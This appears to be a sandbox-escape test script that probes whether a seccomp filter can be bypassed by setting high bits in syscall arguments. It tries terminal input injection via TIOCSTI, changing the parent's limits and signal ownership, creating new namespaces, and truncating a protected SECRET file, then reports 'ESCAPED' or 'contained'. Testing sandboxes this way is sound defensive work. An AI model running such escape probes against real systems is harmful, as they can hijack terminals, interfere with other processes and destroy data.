# escape: bits that the kernel drops, or reads and the filter does not, let an argument pass the filter
# needs: seccomp
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
x86 = platform.machine() == "x86_64"
hits = []
def call(name, number, *arguments):
    ready = [ctypes.c_ulong(a & (2**64 - 1)) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(number), *ready)
    if result == 0 and name.startswith("clone"):
        os._exit(0)
    if result >= 0:
        hits.append(name)
for bits in (1 << 32, 1 << 63, 0xFFFFFFFF << 32):
    call("ioctl TIOCSTI", 16 if x86 else 29, 0, 0x5412 | bits, b"x")
    call("ioctl TIOCLINUX", 16 if x86 else 29, 1, 0x541C | bits, b"\x02")
    call("fcntl F_SETOWN", 72 if x86 else 25, 3, 8 | bits, PARENT)
    call("fcntl F_SETPIPE_SZ", 72 if x86 else 25, os.pipe()[1], 1031 | bits, 1 << 20)
    call("prctl", 157 if x86 else 167, 4 | bits, 1, 0, 0, 0)
    call("prlimit", 302 if x86 else 261, PARENT | bits, 7, 0, 0)
    call("clone user", 56 if x86 else 220, 0x10000000 | 17 | bits, 0, 0, 0, 0)
    call("clone net", 56 if x86 else 220, 0x40000000 | 17 | bits, 0, 0, 0, 0)
    call("open truncating", 257 if x86 else 56, -100, SECRET.encode(), 0o1000 | bits, 0)
call("clone time", 56 if x86 else 220, 0x80 | 0x10000000 | 17, 0, 0, 0, 0)
print("ESCAPED:", hits) if hits else print("contained")
